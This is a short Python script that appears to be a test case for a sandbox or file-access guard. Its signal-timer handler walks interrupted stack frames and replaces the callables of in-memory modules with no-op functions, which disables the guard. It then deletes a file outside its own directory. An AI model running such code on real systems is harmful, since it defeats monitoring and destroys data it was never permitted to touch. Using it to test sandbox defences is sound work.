# A timer fires again and again; its handler tampers with whatever frame it interrupts.
# damage: deleted
# needs: linux
import os
import signal
import time


def handler(number, frame):
    while frame:
        space = frame.f_globals
        if space is not globals() and not os.path.exists(frame.f_code.co_filename):
            for name, value in list(space.items()):
                if callable(value):
                    space[name] = lambda *arguments, **options: None
        frame = frame.f_back


signal.signal(signal.SIGALRM, handler)
signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
end = time.monotonic() + 1
while time.monotonic() < end:
    open("made.txt", "w").close()
    os.rename("made.txt", "other.txt")
signal.setitimer(signal.ITIMER_REAL, 0)
os.unlink("../outside/victim.txt")
